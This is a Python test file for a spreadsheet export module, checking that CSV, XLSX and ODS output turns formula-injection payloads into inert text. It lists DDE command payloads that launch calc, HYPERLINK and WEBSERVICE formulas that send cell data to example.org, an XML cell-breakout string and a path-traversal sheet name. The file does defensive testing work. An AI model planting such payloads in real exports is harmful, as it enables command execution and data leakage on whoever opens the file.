"""No cell that a spreadsheet opens becomes a formula, a link or a number by itself (security.md T13)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from odfdo import Document
from python_calamine import CalamineWorkbook

from core.tables import TRIGGERS, Cell, Sheet, book, safe_cell, to_csv, to_ods, to_xlsx

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "=IMPORTXML(A1,\"//a\")",
    '=WEBSERVICE("http://example.org")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1+cmd|' /C calc'!A0", "+1+1",
    "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "|calc", "%0A=1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+1", "﹦1+1",
)  # fmt: skip
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\ufeff", "\u200b", "\u00a0", "\u3000", "\u2003", "\u2060", "\u200e",
          "\x01 ", " \x01", "\x00", "\u202e", " \ufeff\t", "\x0b", "\x1f\u200b ")  # fmt: skip
PAYLOADS = tuple(before + formula for before in BEFORE for formula in FORMULAS)
PHONE = "+44 161 496 0000"


def csv_cells(made: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 60


def test_no_csv_cell_starts_a_formula() -> None:
    rows = csv_cells(to_csv(PAYLOADS[:5], [[payload, "beside"] for payload in PAYLOADS]))
    assert len(rows) == len(PAYLOADS) + 1
    for cell in [*rows[0], *(row[0] for row in rows[1:])]:
        assert cell.startswith("'")
        assert not cell.lstrip("\ufeff\u200b \u00a0\x00\x01").startswith(TRIGGERS)


@pytest.mark.parametrize("separator", [",", ";", "\t", '"'])
def test_a_cell_cannot_break_out_of_its_quotes(separator: str) -> None:
    sly = f'x"{separator}"=1+1'
    assert csv_cells(to_csv(["a", "b"], [[sly, "last"]]))[1] == [sly, "last"]


@pytest.mark.parametrize("plain", ["Robyn", "a = b", "x-y", "e@mail", "5%", "", "’tis", "0161 496 0000", "1.5"])
def test_plain_words_stay_as_they_are(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_a_phone_number_comes_back() -> None:
    assert csv_cells(to_csv(["phone"], [[PHONE]]))[1][0].removeprefix("'") == PHONE
    assert sheet(to_xlsx("Phones", ["phone"], [[PHONE]]))["A2"].value == PHONE


def sheet(made: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    found = openpyxl.load_workbook(io.BytesIO(made)).active
    assert isinstance(found, openpyxl.worksheet.worksheet.Worksheet)
    return found


def test_no_xlsx_cell_is_a_formula_or_a_link() -> None:
    made = to_xlsx("Payloads", PAYLOADS[:5], [[payload] for payload in PAYLOADS])
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert "xl/externalLinks" not in " ".join(parts.namelist())
        written = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in written
    assert b"<f " not in written
    assert b"<hyperlink" not in written
    assert written.count(b't="s"') == len(PAYLOADS) + 5


def test_xlsx_gives_back_what_went_in() -> None:
    made = sheet(to_xlsx("Plan", ["A", "B", "C", "D", "E"], [["=1+1", 7, date(2026, 11, 26), None, 1.5]]))
    assert [cell.value for cell in made[2]] == ["=1+1", 7, datetime(2026, 11, 26), None, 1.5]
    assert made["A2"].data_type == "s"
    assert made["C2"].number_format == "d mmm yyyy"


def test_a_moment_is_written_as_the_clock_in_manchester_shows_it() -> None:
    made = sheet(to_xlsx("Times", ["At"], [[datetime(2026, 7, 1, 11, 30, tzinfo=UTC)]]))
    assert str(made["A2"].value) == "2026-07-01 12:30:00"


@pytest.mark.parametrize("title", ["Plan: 2020/22 [all]?*", "'quoted'", "", "x" * 40, "a\x01b"])
def test_any_title_names_a_sheet(title: str) -> None:
    assert 0 < len(sheet(to_xlsx(title, ["A"], [["x"]])).title) <= 31


def test_a_very_long_text_is_cut_and_says_so() -> None:
    value = sheet(to_xlsx("Long", ["A"], [["x" * 40_000]]))["A2"].value
    assert isinstance(value, str)
    assert len(value) == 32_767
    assert value.endswith("…")


def ods(made: bytes) -> list[list[object]]:
    """The cells of an OpenDocument sheet, read by another library than the one that imports them."""
    table = Document(io.BytesIO(made)).body.get_table(0)
    assert table is not None
    return [[*row.get_values()] for row in table.get_rows()]


def test_no_ods_cell_is_a_formula_or_a_link_and_none_breaks_out_of_its_place() -> None:
    sly = '</text:p></table:table-cell><table:table-cell table:formula="of:=1+1"/>'
    made = to_ods("Payloads", PAYLOADS[:5], [*([payload] for payload in PAYLOADS), [sly, 'a"b', "tail"]])
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert parts.namelist() == ["mimetype", "content.xml", "META-INF/manifest.xml"]
        written = parts.read("content.xml").decode()
    for active in ('formula="', 'href="', "<text:a", "script"):
        assert active not in written
    assert ods(made)[-1][:3] == [sly, 'a"b', "tail"]
    assert written.count('office:value-type="string"') == len(PAYLOADS) + 5 + 3


def test_ods_gives_back_what_went_in_in_both_readers() -> None:
    moment = datetime(2026, 7, 1, 11, 30, tzinfo=UTC)
    row: list[Cell] = ["=1+1  & two\nlines", 7, date(2026, 11, 26), None, 1.5, moment]
    made = to_ods("Plan: 2020/22 [all]?*", ["A", "B", "C", "D", "E", "F"], [row, [" first"]])
    clock_here = datetime(2026, 7, 1, 12, 30)
    assert ods(made)[1] == ["=1+1  & two\nlines", 7, date(2026, 11, 26), None, Decimal("1.5"), clock_here]
    book = CalamineWorkbook.from_filelike(io.BytesIO(made))
    found = book.get_sheet_by_index(0).to_python()
    assert found[1] == ["=1+1  & two\nlines", 7.0, date(2026, 11, 26), "", 1.5, clock_here]
    assert found[2][0] == " first"
    assert made == to_ods("Plan: 2020/22 [all]?*", ["A", "B", "C", "D", "E", "F"], [row, [" first"]])
    assert "/" not in book.sheet_names[0]


def test_what_xml_cannot_hold_is_left_out_of_ods_and_a_very_long_text_is_cut() -> None:
    shown = ods(to_ods("Odd", ["A"], [["a\x00\x0b\ud800b"], ["x" * 40_000]]))
    assert shown[1] == ["ab"]
    assert str(shown[2][0]).endswith("x…")
    assert len(str(shown[2][0])) == 32_767


PAIR = [Sheet("Quarter: one", ["A"], [["=1+1"], [7]]), Sheet("quarter/ ONE", ["B"], [["+44 161"]]),
        Sheet("History", ["C"], [])]  # fmt: skip


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_a_book_holds_its_sheets_in_order_each_under_a_name_of_its_own(kind: str) -> None:
    found = CalamineWorkbook.from_filelike(io.BytesIO(book(kind, PAIR)))
    assert found.sheet_names == ["Quarter  one", "quarter  ONE (2)", "History 1"]
    assert [found.get_sheet_by_index(at).to_python() for at in range(3)] == [
        [["A"], ["=1+1"], [7.0]], [["B"], ["+44 161"]], [["C"]],
    ]  # fmt: skip


def test_several_sheets_as_csv_are_one_archive_and_one_is_a_file() -> None:
    sheets = [Sheet("About", ["A"], [["=1+1"]]), Sheet("../etc/About", ["B"], [[PHONE]])]
    made = book("csv", sheets)
    assert made == book("zip", sheets), "the same parts make the same bytes"
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert parts.namelist() == ["1 About.csv", "2 .. etc About.csv"]
        assert csv_cells(parts.read("1 About.csv")) == [["A"], ["'=1+1"]]
    assert book("csv", sheets[:1]) == to_csv(["A"], [["=1+1"]])
    assert zipfile.is_zipfile(io.BytesIO(book("zip", sheets[:1])))


def test_a_book_is_of_a_kind_that_is_known_and_has_a_sheet() -> None:
    with pytest.raises(KeyError):
        book("exe", PAIR)
    with pytest.raises(ValueError, match="at least one sheet"):
        book("xlsx", [])


@pytest.mark.parametrize("kind", ["xlsx", "ods", "csv"])
def test_half_a_letter_neither_hides_a_formula_nor_stops_a_file(kind: str) -> None:
    made = book(kind, [Sheet("Odd \ud800", ["\ud800=A"], [["\ud800=1+1"], ["a\udfffb"]])])
    if kind == "csv":
        assert csv_cells(made) == [["'=A"], ["'=1+1"], ["ab"]]
    else:
        found = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
        assert found == [["=A"], ["=1+1"], ["ab"]]
